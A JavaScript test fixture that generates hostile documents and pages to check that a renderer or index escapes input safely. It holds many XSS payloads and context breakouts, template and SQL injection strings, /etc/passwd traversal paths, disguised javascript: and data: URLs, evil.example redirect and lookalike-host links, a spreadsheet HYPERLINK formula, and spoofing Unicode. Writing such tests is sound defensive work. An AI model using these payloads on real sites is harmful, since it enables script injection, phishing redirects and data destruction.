// Texts and addresses that would run, break or mislead something on a careless page, made by combining
// ways out of a context with things that run there. Each calls `ran`, which a page that is tested watches.

/** Ways out of where a careless page would have put a text. */
const WAYS_OUT = {
  text: (code) => code,
  "a quoted attribute": (code) => `">${code}`,
  "an attribute in single quotes": (code) => `'>${code}`,
  "the title of a page": (code) => `</title>${code}`,
  "a mark": (code) => `</mark></p></a>${code}`,
  "a template": (code) => `</template>${code}<template>`,
  "a style sheet": (code) => `</style>${code}`,
  "a script": (code) => `</script>${code}`,
  "a comment": (code) => `--!>${code}<!--`,
  entities: (code) => code.replaceAll("<", "&lt;").replaceAll(">", "&#62;").replaceAll('"', "&quot"),
};

/** Markup that runs as soon as it is in a page, or takes one away. */
const MARKUP = [
  "<script>ran(1)</script>",
  "<scr<script>ipt>ran(2)</scr</script>ipt>",
  "<img src=x onerror=ran(3)>",
  "<IMG/SRC=`x`/OnErRoR=ran(4)//",
  "<svg/onload=ran(5)>",
  '<svg><animate onbegin="ran(6)" attributeName=x dur=1s>',
  '<svg><style><img src="</style><img src=x onerror=ran(7)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran(8)>',
  '<math href="javascript:ran(9)">点</math>',
  '<iframe srcdoc="<script>parent.ran(10)</script>"></iframe>',
  "<object data=javascript:ran(11)><embed src=javascript:ran(11)>",
  '<a href="javascript:ran(12)">点这里</a>',
  "<input autofocus onfocus=ran(13)>",
  "<details open ontoggle=ran(14)>",
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css"><style>@import "//evil.example/y.css";</style>',
  "<form action=//evil.example><button formaction=javascript:ran(15)>",
  "<video><source onerror=ran(16)></video><audio src onerror=ran(16)>",
];

/** What runs inside a place that markup is not needed for. */
const WITHOUT_MARKUP = [
  `" onmouseover="ran(20)" x="`,
  `' onfocus='ran(21)' autofocus='`,
  "` onpointerenter=ran(22) `",
  "';ran(23);//",
  '"});ran(24);({"a":"',
  "\u2028ran(25)\u2029",
  "{{constructor.constructor('ran(26)')()}}",
  "${ran(27)}",
  "<%= ran(28) %>",
  "#{ran(29)}",
  "[[${ran(30)}]]",
  "{% import 'os' %}{{ran(31)}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=ran(32)')}}",
  "expression(ran(33))",
  "background:url(javascript:ran(34))",
  "}*{display:none}:host{position:fixed;inset:0}/*",
  "@import url(//evil.example/z.css);",
  "position:fixed;inset:0;z-index:2147483647",
  "<!--#exec cmd=\"ran\"-->",
  "<![CDATA[<script>ran(35)</script>]]>",
  "+ADw-script+AD4-ran(36)+ADw-/script+AD4-",
  "%3Cscript%3Eran(37)%3C/script%3E",
  "\\u003cscript\\u003eran(38)\\u003c/script\\u003e",
  "\uff1cscript\uff1eran(39)\uff1c/script\uff1e",
  "' OR 1=1; DROP TABLE docs;--",
  "../../../../etc/passwd",
  "=HYPERLINK(\"//evil.example\")",
];

/** Characters that turn, hide, stack or stretch what is around them. */
const CHARACTERS = [
  "\u202e字文的倒颠\u202c",
  "\u202e没有收尾的倒转",
  "\u2066\u2067\u2068不配对的隔离\u2069",
  "\u202a\u202b\u202d层层嵌套".repeat(20),
  "\u061c\u200f\u200e方向记号",
  "مرحبا بالعالم שלום 混在一起",
  "危\u200b险\u200c的\u200d零\u2060宽\ufeff字",
  "\u00ad软\u00ad连\u00ad字\u00ad符",
  "\u180e\u3164\uffa0\u2800看不见的",
  "a\u034fb\u115f\u1160连接",
  `Z${"\u0301\u0316\u0489".repeat(120)}algo`,
  [..."叠叠高"].map((c) => c + "\u0300\u0334\u0323\u20dd".repeat(60)).join(""),
  `\u0e01${"\u0e49".repeat(200)}`,
  "W".repeat(900),
  "长".repeat(800),
  "\u00a0".repeat(300) + "不断行",
  "http://" + "a".repeat(400) + ".example/" + "b/".repeat(100),
  "\u2060不\u2060断\u2060".repeat(100),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}一家",
  "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}旗",
  "\u{1f44d}\u{1f3fd}".repeat(80),
  "1\ufe0f\u20e3\u2764\ufe0e\u2764\ufe0f",
  "\ufdfa\ufdfd\u{12031}宽字",
  "\u{20000}\u{2a6d6}\u{30000}罕用字",
  "\ue000\u{f0000}\u{10fffd}私用",
  "\ufffe\uffff\u{1ffff}非字符",
  "\u001b[31m红\u001b[0m\u001b]0;窗口\u0007",
  "\u001b]8;;https://evil.example\u0007链接\u001b]8;;\u0007",
  "\u0000中间\u0000有空",
  "\u0001\u0008\u000b\u000c\u000e\u001f\u007f\u0085控制",
  "一行\r\n两行\r三行\n\n\t四行\v五行",
  "\ufff9注\ufffa音\ufffb",
  "i\u0307İıſKÅ\u1e9e大小写",
  "ﷺ㌖㍿⑩ﬃ展开",
];

/** Names that every object of a script has, or that a page would take for something of its own. */
export const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "then", "length", "location", "innerHTML", "onclick"];

/** All texts, each once. */
export const PAYLOADS = [
  ...new Set([...Object.values(WAYS_OUT).flatMap((out) => MARKUP.map(out)), ...WITHOUT_MARKUP, ...CHARACTERS, ...NAMES.map((name) => `${name} 之名`)]),
];

/** Addresses that are no links, whatever stands around their scheme. */
const NO_LINKS = [
  "javascript:ran(50)",
  "javascript://%0aran(51)",
  "javascript:/*https://ok.example/*/ran(52)",
  "data:text/html,<script>ran(53)</script>",
  "data:text/html;base64,PHNjcmlwdD5yYW4oNTQpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg onload=ran(55)>",
  "vbscript:ran(56)",
  "blob:https://ok.example/00000000-0000-4000-8000-000000000000",
  "file:///etc/passwd",
  "filesystem:https://ok.example/temporary/x",
  "about:blank",
  "view-source:https://ok.example/",
  "intent://x#Intent;scheme=https;end",
  "chrome://settings",
  "mailto:a@evil.example",
  "ws://evil.example/",
];

/** What browsers skip in an address, or people overlook. */
const DISGUISES = [
  (url) => url,
  (url) => url.replace(/^[^:]*/, (scheme) => [...scheme].map((c, i) => (i % 2 ? c : c.toUpperCase())).join("")),
  (url) => `${url.slice(0, 2)}\t${url.slice(2)}`,
  (url) => `${url.slice(0, 3)}\r\n${url.slice(3)}`,
  (url) => url.replace(":", "\n:"),
  (url) => ` \u0001\u001f${url}`,
  (url) => `\u200b${url}`,
  (url) => `\ufeff\u2060${url}`,
];

/** Addresses that may be links, and must then be of the web: odd hosts, broken ones, quotes in an anchor. */
const ODD_LINKS = [
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example/x",
  "/\t/evil.example/x",
  "https:evil.example",
  "http:\\\\evil.example\\x",
  "https://ok.example@evil.example/",
  "https://user:password@evil.example/",
  "https://ok。example/",
  "https://ok.example\u2044.evil.example/",
  "https://аpple.example/",
  "https://[::1/",
  "https://[::ffff:127.0.0.1]/",
  "http://%00/",
  "http://0x7f.1/",
  "http://a b/",
  "https://xn--/",
  "http://:99999/",
  "&#106;avascript:ran(60)",
  "&Tab;javascript&colon;ran(61)",
  "javascript%3Aran(62)",
  "java\u200bscript:ran(63)",
  "javascript\uff1aran(64)",
  "?q=\"><img src=x onerror=ran(65)>",
  "#\"><svg onload=ran(66)>",
  "/x' onmouseover='ran(67)",
  "/x#:~:text=</a>,<script>ran(68)</script>",
  "/%E2%80%AEgpj.exe",
  "/\u202egpj.exe",
  "../../../../../../etc/passwd",
  `/${"长".repeat(500)}`,
  `#${"a".repeat(3000)}`,
];

/** All addresses, each once. */
export const URLS = [...new Set([...NO_LINKS.flatMap((url) => DISGUISES.map((hide) => hide(url))), ...ODD_LINKS])];

/** A text as it is written in a page or a quoted attribute. */
const inMarkup = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

/** One document for each payload: it is in all of its fields, and its number in `meta`. */
export function hostileDocuments() {
  return PAYLOADS.map((payload, i) => ({
    url: URLS[i] ?? `/ok/${i}?${payload}#${payload}`,
    title: `险${payload}`,
    text: `危险在前。${payload}`,
    id: payload,
    // JSON.stringify would not write the name that a literal sets the prototype by.
    meta: Object.fromEntries([["number", i], [payload, payload], ...NAMES.map((name) => [name, payload])]),
    filters: Object.fromEntries([[payload, [payload]], ...NAMES.map((name) => [name, [payload]])]),
    date: i % 3 ? payload : `2024-01-02${payload}`,
    lang: payload,
  }));
}

/** Pages whose title, language, heading and anchor are a payload each. */
export function hostilePages() {
  return PAYLOADS.filter((payload) => !payload.includes("\0")).map((payload) => {
    const text = inMarkup(payload);
    return `<!doctype html><html lang="${text}"><title>节${text}</title><main><h1>节${text}</h1><h2 id="${text}">险${text}</h2><p>危险在节里。${text}</p></main></html>`;
  });
}
